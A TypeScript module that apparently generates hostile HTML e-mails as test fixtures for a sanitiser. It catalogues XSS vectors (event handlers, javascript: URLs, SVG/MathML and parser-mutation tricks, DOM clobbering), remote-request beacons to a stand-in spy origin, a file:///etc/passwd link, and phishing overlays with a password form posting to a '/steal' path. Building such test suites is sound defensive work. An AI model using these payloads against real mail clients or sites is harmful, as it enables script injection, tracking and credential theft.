/**
 * E-mails as an attacker writes them: script in every place that a browser has run it from, and requests in every place
 * that one has made them. The parser's own tricks are those that are collected in the tests of sanitisers.
 * @param spy origin of a server that must not be asked
 * @param run script that must not run
 * @returns HTML by what it tries
 */
export function hostileMails(spy: string, run: string): Record<string, string> {
  return { ...runs(run), ...parserTricks(run), ...requests(spy), ...covers(spy) }
}

const runs = (run: string): Record<string, string> => ({
  'a script': `<script>${run}</script><script src="data:text/javascript,${run}"></script><SCRIPT/x>${run}</SCRIPT>`,
  handlers: `<img src=x onerror="${run}"><body onload="${run}"><details open ontoggle="${run}"><p>x</p></details>
    <video onloadstart="${run}" src=x></video><marquee onstart="${run}">x</marquee><input autofocus onfocus="${run}">
    <div onpointerover="${run}" onanimationstart="${run}" style="animation: x 1s">hover</div><p/onclick="${run}">x</p>`,
  svg: `<svg onload="${run}"><script>${run}</script><animate onbegin="${run}" attributeName=x dur=1s>
    <a xlink:href="javascript:${run}"><text y=20>x</text></a><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='${run}'/>#x"/>
    <foreignObject><iframe srcdoc="<script>${run}</script>"></iframe></foreignObject></svg>`,
  math: `<math href="javascript:${run}">x</math><math><maction actiontype="statusline#x" xlink:href="javascript:${run}">x</maction></math>`,
  frames: `<iframe srcdoc="<script>${run}</script>"></iframe><iframe src="javascript:${run}"></iframe><object data="javascript:${run}"></object>
    <embed src="javascript:${run}"><frameset onload="${run}"><frame src="javascript:${run}"></frameset><portal src="javascript:${run}"></portal>`,
  addresses: [
    'javascript',
    'JaVaScRiPt',
    'java\tscript',
    'java&#10;script',
    '\u0001javascript',
    'vbscript',
    'livescript',
  ]
    .map((scheme) => `<a class=way href="${scheme}:${run}">a way</a>`)
    .concat(
      `<a class=way href="data:text/html,<script>${run}</script>">a way</a><a href="file:///etc/passwd">a way</a>`,
    )
    .join(' '),
  'a form': `<form action="javascript:${run}"><button formaction="javascript:${run}">Send</button><input type=image src=x onerror="${run}">
    <isindex action="javascript:${run}" type=submit value=x></form><button form=x formaction="javascript:${run}">x</button>`,
  'names that shadow': `<form id=document><input name=body></form><img name=createElement><a id=defaultView></a>
    <form name=firstChild><input name=parentNode><input name=attributes></form><a id=stolen></a><iframe name=desk></iframe>`,
})

const parserTricks = (run: string): Record<string, string> => {
  const image = `<img src=1 onerror=${run}>`
  const quoted = `--&gt;&lt;img src=1 onerror=${run}&gt;`
  return {
    'math and style': `<math><mtext><table><mglyph><style><!--</style><img title="${quoted}"></table></mtext></math>`,
    'math and nested form': `<form><math><mtext></form><form><mglyph><style></math>${image}</style></mglyph></form></mtext></math>`,
    'svg and style': `<svg></p><style><a id="</style>${image}">`,
    'svg and title': `<svg><title><style><!--</style>--&gt;${image}</title></svg><svg><desc><xmp></desc>${image}</xmp></svg>`,
    noscript: `<noscript><p title="</noscript>${image}"></noscript>`,
    'text areas': `<textarea><p title="</textarea>${image}"></textarea><xmp><p title="</xmp>${image}"></xmp><plaintext>${image}`,
    comments: `<!--><img src=1 onerror=${run}>--><!-- --!>${image}<![CDATA[${image}]]><!DOCTYPE [<!ENTITY x "${image}">]>&x;`,
    templates: `<template><script>${run}</script>${image}</template><div><template shadowrootmode=open>${image}</template></div>`,
    'select and option': `<select><option><style></option></select>${image}</style><select><template>${image}</template></select>`,
    'broken tags': `<img """><script>${run}</script>"><<script>${run}//<</script><img src=1\u000conerror=${run}><iMg/src=1/oNerRor=${run}>`,
    namespaces: `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script><html:script>${run}</html:script><?xml-stylesheet href="javascript:${run}"?>`,
    'deep nesting': `${'<div><table><tr><td>'.repeat(30)}${image}`,
  }
}

const requests = (spy: string): Record<string, string> => ({
  'head elements': `<head><meta http-equiv="refresh" content="0;url=${spy}/refresh"><base href="${spy}/"><base target="_top">
    <link rel=stylesheet href="${spy}/sheet"><link rel=preload as=image href="${spy}/preload"><link rel=prefetch href="${spy}/prefetch">
    <link rel=dns-prefetch href="//spy.example"><link rel=preconnect href="${spy}"><link rel=icon href="${spy}/icon"><link rel=manifest href="${spy}/manifest">
    <meta http-equiv="set-cookie" content="x=1"><meta http-equiv="Content-Security-Policy" content="default-src *"></head><img src="relative.gif">`,
  pictures: `<img src="${spy}/img"><img srcset="${spy}/srcset 2x, ${spy}/srcset3 3x"><picture><source srcset="${spy}/source"><img src="${spy}/fallback"></picture>
    <img src="//${spy.slice(7)}/bare"><img lowsrc="${spy}/lowsrc" dynsrc="${spy}/dynsrc"><input type=image src="${spy}/input"><image href="${spy}/image">`,
  media: `<video poster="${spy}/poster" src="${spy}/video" autoplay></video><audio src="${spy}/audio" autoplay></audio>
    <video><source src="${spy}/source"><track default src="${spy}/track"></video><object data="${spy}/object"></object><embed src="${spy}/embed"><bgsound src="${spy}/bgsound">`,
  styles: `<style>@import "${spy}/import"; @import url(${spy}/import2); @font-face { font-family: x; src: url(${spy}/font) } body { background: url(${spy}/css); font-family: x }</style>
    <p style="background: url('${spy}/style')">x</p><p style="background-image: u\\72l(${spy}/escaped)">x</p><p style="list-style: url(${spy}/list)">x</p>
    <p style="background: image-set('${spy}/set' 1x)">x</p><p style="cursor: url(${spy}/cursor), auto">x</p><p style="content: url(${spy}/content)">x</p>
    <p style="background:/**/url(${spy}/comment)">x</p><p style="--x: url(${spy}/custom); background: var(--x)">x</p><p style="behavior: url(${spy}/htc)">x</p>`,
  attributes: `<table background="${spy}/table"><tr><td background="${spy}/cell">x</td></tr></table><body background="${spy}/body">
    <a href="https://example.com/" ping="${spy}/ping">x</a><blockquote cite="${spy}/cite">x</blockquote><svg><image href="${spy}/svg"/><use href="${spy}/use#x"/></svg>`,
})

const covers = (spy: string): Record<string, string> => ({
  overlays: ['fixed', 'absolute', 'sticky', 'FIXED', 'fi\\78 ed']
    .map(
      (position) =>
        `<div style="position: ${position}; inset: 0; z-index: 99999; width: 9999px; height: 9999px">Sign in again</div>`,
    )
    .join(''),
  'a dialog': `<dialog open>Your session ended</dialog><div popover id=x>x</div><button popovertarget=x>x</button><details open><summary>x</summary></details>`,
  'a form to fill in': `<form action="${spy}/steal" method=post><input name=password type=password autofocus><button autofocus>Sign in</button></form>`,
  'keys and focus': `<a href="https://example.com/" accesskey=r tabindex=1>x</a><p contenteditable autofocus>x</p><area href="${spy}/area"><map name=m><area href="${spy}/map"></map>`,
})
